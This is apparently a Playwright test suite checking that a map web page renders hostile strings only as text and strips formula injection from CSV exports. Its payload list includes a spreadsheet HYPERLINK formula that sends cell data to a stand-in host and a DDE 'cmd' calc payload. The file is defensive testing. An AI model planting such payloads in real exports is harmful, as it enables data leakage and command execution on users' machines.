"""Text that tries to run, in what the page shows when it is used: tips, filters, print, files, copied words."""

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest

import hostile_texts
import sample
from geomap.render import draw_page
from geomap.scene import SceneLayer, TypeSymbol
from hostile_texts import assert_nothing_ran, hostile_scene, texts
from map_on_screen import on_screen

# Playwright talks to the browser that it started over local sockets; the page itself is offline.
pytestmark = pytest.mark.enable_socket

HOSTILE = hostile_texts.HOSTILE | {
    "formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "tab and formula": "\t=1+1",
    "hidden formula": "\u200b=1+1",
    "comma and quotes": 'a, "b"; c\r\nd',
}  # fmt: skip
HIDDEN = re.compile("[\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


def one_line(text: str, longest: int) -> str:
    """Text as it stands where nothing can be marked beside it."""
    shown = re.sub(
        r"[\t-\r \xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]+", " ", HIDDEN.sub("\u25af", text)
    )
    return f"{shown[: longest - 1]}…" if len(shown) > longest else shown


def widest(page: Any) -> float:
    """By how many pixels anything in the panel or the head reaches out of it."""
    over: float = page.evaluate(
        """() => Math.max(...['#geomap-side', '.gm-head'].map((selector) => {
            const box = document.querySelector(selector);
            const {left, right} = box.getBoundingClientRect();
            const clips = (node) => getComputedStyle(node).overflowX !== 'visible';
            const isFree = (node) => {
                let at = node.parentElement;
                while (at !== box && !clips(at)) at = at.parentElement;
                return at === box && !node.closest('.gm-offscreen') && node.checkVisibility();
            };
            const seen = [...box.querySelectorAll('*')].filter(isFree);
            return Math.max(box.scrollWidth - box.clientWidth, ...seen.map((node) => {
                const own = node.getBoundingClientRect();
                return Math.max(own.right - right, left - own.left);
            }));
        }))"""
    )
    return over


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_in_every_view_it_is_text(open_page: Any, tmp_path: Path, text: str) -> None:
    opened = open_page(draw_page(hostile_scene(text)))
    page = opened.page
    # As the parser of HTML has it, which makes one kind of line end of three.
    assert page.evaluate("document.querySelector('title').textContent") == re.sub("\r\n?", "\n", text)

    check_tip(opened, text)
    check_filters(page, text)
    page.locator(".gm-menu > summary").click()
    assert page.locator(".gm-menu").evaluate("menu => menu.open")
    check_files(page, tmp_path, text)
    page.keyboard.press("Escape")
    assert not page.locator(".gm-menu").evaluate("menu => menu.open")
    check_print(page, text)
    check_copies(opened, text)
    for change in ({"tab": "events"}, {"tab": "filters"}, {"tab": "legend"}, {"event": "drop"}):
        page.evaluate("change => geomap.set(change)", change)
        assert widest(page) <= 1, change
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, change
    head = page.locator(".gm-head").bounding_box()
    assert head["height"] < 300
    assert_nothing_ran(opened)


def check_tip(opened: Any, text: str) -> None:
    page = opened.page
    [pin] = page.evaluate("geomap.drawn('range')")
    page.mouse.move(*on_screen(page, pin["px"]))
    opened.wait_until("document.querySelector('.gm-tip bdi') !== null")
    assert texts(page, ".gm-tip bdi") == [one_line(text, 120)]
    tip = page.locator(".gm-tip").bounding_box()
    assert tip["width"] <= 260
    assert tip["height"] <= 170


def check_filters(page: Any, text: str) -> None:
    page.get_by_role("tab", name="Filters").click()
    types = texts(page, ".gm-filter-group:has(legend) .gm-choices bdi")
    assert text in types
    actor = page.locator(".gm-filter-group", has=page.locator("legend", has_text=re.compile("^Who$")))
    assert texts(page, ".gm-filter-group:nth-of-type(3) .gm-choices bdi") == [text]
    actor.locator(".gm-choices input").first.click()
    assert page.evaluate("geomap.state().filters.actor") == [text]
    assert one_line(text, 48) in texts(page, ".gm-chosen-chip bdi")
    assert page.evaluate("geomap.counts().shown") == 13

    told = one_line(text, 60)
    options = texts(page, "#geomap-lens option")
    assert any(option.startswith(f"As told by {told} (") for option in options), options
    page.evaluate("text => geomap.set({lens: `by:${text}`})", text)
    assert page.locator("#geomap-lens").input_value() == f"by:{text}"
    assert page.evaluate("geomap.counts().shown") == 13

    page.evaluate("text => geomap.set({filters: {text, actor: null}})", text)
    # An input of one line has no line ends.
    assert page.locator("#geomap-search").input_value() == re.sub("[\r\n]", "", text)
    assert one_line(f"“{text}”", 48) in texts(page, ".gm-chosen-chip bdi")
    page.evaluate(
        "text => geomap.set({filters: {type: [`strike/${text}`], source: [text], text: null}})", text
    )
    assert page.evaluate("geomap.counts().shown") == 0
    page.evaluate("text => geomap.set({filters: {type: [`strike/${text}`], source: null}})", text)
    assert page.evaluate("geomap.counts().shown") == 2
    page.evaluate("text => geomap.set({filters: null, lens: null, layers: {[text]: false}})", text)
    assert page.evaluate("geomap.counts().shown") == 0
    page.evaluate("geomap.set({layers: null, tab: 'events'})")


def check_files(page: Any, folder: Path, text: str) -> None:
    files = {}
    for words, suffix in (("CSV", "csv"), ("GeoJSON", "geojson")):
        if not page.locator(".gm-menu").evaluate("menu => menu.open"):
            page.locator(".gm-menu > summary").click()
        with page.expect_download() as waiting:
            page.locator(".gm-menu-action", has_text=words).click()
        name = waiting.value.suggested_filename
        assert re.fullmatch(rf"[\w-]{{1,64}}\.{suffix}", name), name
        path = folder / f"taken.{suffix}"
        waiting.value.save_as(path)
        files[suffix] = path.read_bytes().decode("utf-8")
    with (folder / "taken.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream, strict=True))
    assert len(rows) == 13
    for row in rows:
        for cell in row.values():
            assert not re.match(r"[\s\u200b\ufeff]*[=+@\uff1d]|[\t\r\n]", cell), cell
        for key in ("title", "summary", "actors", "claimants"):
            assert row[key] in (text, f"'{text}"), key
    features = json.loads(files["geojson"])["features"]
    assert len(features) == 13
    for feature in features:
        own = feature["properties"]
        assert (own["title"], own["summary"], own["actors"], own["subtype"]) == (text, text, [text], text)


def check_print(page: Any, text: str) -> None:
    page.evaluate("text => geomap.set({filters: {actor: [text]}})", text)
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    assert text in texts(page, ".gm-print bdi")
    assert page.locator(".gm-print script, .gm-print img, .gm-print iframe").count() == 0
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    assert page.locator(".gm-print").count() == 0
    page.evaluate("geomap.set({filters: null})")


def check_copies(opened: Any, text: str) -> None:
    page = opened.page
    page.evaluate(
        """() => Object.defineProperty(navigator, 'clipboard', {
            value: {writeText: async (words) => { window.copied = words; }}, configurable: true,
        })"""
    )
    page.evaluate("geomap.set({event: 'drop'})")
    page.get_by_role("button", name=re.compile("citation|Cite", re.IGNORECASE)).click()
    opened.wait_until("window.copied !== undefined")
    cited = page.evaluate("window.copied")
    assert cited.startswith(f"{text}. ")
    assert cited.count(text) >= 4
    page.evaluate("geomap.set({event: null})")


def test_half_a_surrogate_pair_breaks_nothing(open_page: Any, tmp_path: Path) -> None:
    opened = open_page(draw_page(hostile_scene("half \ud83d sign \udc00")))
    page = opened.page
    half = "'half \\ud83d sign \\udc00'"
    for selector in (
        ".gm-title bdi",
        "[role=row] .gm-row-title bdi",
        ".gm-layer-title bdi",
        ".gm-attribution bdi",
    ):
        assert page.evaluate(f"document.querySelector({selector!r}).textContent === {half}"), selector
    page.evaluate("geomap.set({event: 'drop', tab: 'filters'})")
    assert page.evaluate(f"document.querySelector('[role=dialog] h2 bdi').textContent === {half}")
    page.evaluate(f"geomap.set({{event: null, filters: {{actor: [{half}]}}}})")
    assert page.evaluate("geomap.counts().shown") == 13
    page.locator(".gm-menu > summary").click()
    for words in ("GeoJSON", "CSV"):
        with page.expect_download() as waiting:
            page.locator(".gm-menu-action", has_text=words).click()
        path = tmp_path / "taken"
        waiting.value.save_as(path)
        text = path.read_text(encoding="utf-8-sig")
        if words == "GeoJSON":
            # JSON can say it; a table in UTF-8 cannot.
            assert {own["properties"]["title"] for own in json.loads(text)["features"]} == {
                "half \ud83d sign \udc00"
            }
        else:
            assert "half \ufffd sign \ufffd" in text
    assert_nothing_ran(opened)


ODD_IDS = ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "__defineGetter__")


def odd_page() -> str:
    """Everything that has an id is called like a part of every object."""
    rows = [
        sample.event(
            odd, f"Event of {odd}", odd, subtype=odd, actors=[odd], actor_ids=[odd], claimants=[odd], sources=[odd],
            detail=sample.detail(
                sources=[sample.SOURCE | {"id": odd}],
                claims=[{"by": odd, "stance": odd, "about": odd, "source": odd, "text": odd}],
                actors=[{"name": odd, "role": odd}],
                relations=[{"type": odd, "event": other, "title": other} for other in ODD_IDS],
            ),
        )
        for odd in ODD_IDS
    ]  # fmt: skip
    features = [
        sample.feature(
            f"{odd}#1", n, "pin", "place", odd, lon=24.0 + n, lat=53.0, relation=odd, method=odd, note=odd
        )
        for n, odd in enumerate(ODD_IDS)
    ]
    return draw_page(
        sample.sample_scene(
            language="__proto__",
            types=tuple(TypeSymbol(id=odd, label="", colour="#009e73", glyph="toString") for odd in ODD_IDS),
            layers=tuple(
                SceneLayer(id=odd, title=odd, group=odd, events=(n,)) for n, odd in enumerate(ODD_IDS)
            ),
            events=sample.columns(rows),
            features=sample.columns(features),
        )
    )


def test_ids_that_every_object_has_are_ids_like_any_other(open_page: Any) -> None:
    opened = open_page(odd_page())
    page = opened.page
    ask = "JSON.stringify({counts: geomap.counts(), state: geomap.state()})"
    assert json.loads(page.evaluate(ask))["counts"]["layers"] == dict.fromkeys(ODD_IDS, 1)
    for number, odd in enumerate(ODD_IDS):
        set_it = "text => geomap.set(JSON.parse(text))"
        for change, shown in (
            ({"layers": {odd: False}}, 5),
            ({"filters": {"type": [odd]}}, 1),
            ({"filters": {"type": [f"{odd}/{odd}"]}}, 1),
            ({"filters": {"actor": [odd]}}, 1),
            ({"filters": {"source": [odd]}}, 1),
            ({"lens": f"by:{odd}"}, 1),
            ({"event": odd}, 6),
        ):
            page.evaluate(set_it, json.dumps(change))
            fragment = page.evaluate("location.hash")
            asked = json.loads(page.evaluate(ask))
            assert asked["counts"]["shown"] == shown, change
            page.evaluate("geomap.set({layers: null, filters: null, lens: null, event: null})")
            page.evaluate("hash => { location.hash = hash }", fragment)
            opened.wait_until(
                f"geomap.counts().shown === {shown} && location.hash === {json.dumps(fragment)}"
            )
            assert json.loads(page.evaluate(ask)) == asked, change
            page.evaluate("geomap.set({layers: null, filters: null, lens: null, event: null})")
        assert len(page.evaluate("id => geomap.drawn(id)", odd)) == 1
        box = page.locator(".gm-layers input").nth(number)
        box.click()
        assert page.evaluate("geomap.counts().shown") == 5
        box.click()
    page.evaluate("geomap.set({event: 'constructor', tab: 'filters'})")
    text = page.locator("[role=dialog]").inner_text()
    assert "Event of constructor" in text
    assert "[object" not in page.locator("body").inner_text()
    assert "native code" not in page.locator("body").inner_text()
    page.evaluate("geomap.set({event: null, tab: 'legend'})")
    assert "native code" not in page.locator("body").inner_text()
    assert_nothing_ran(opened)
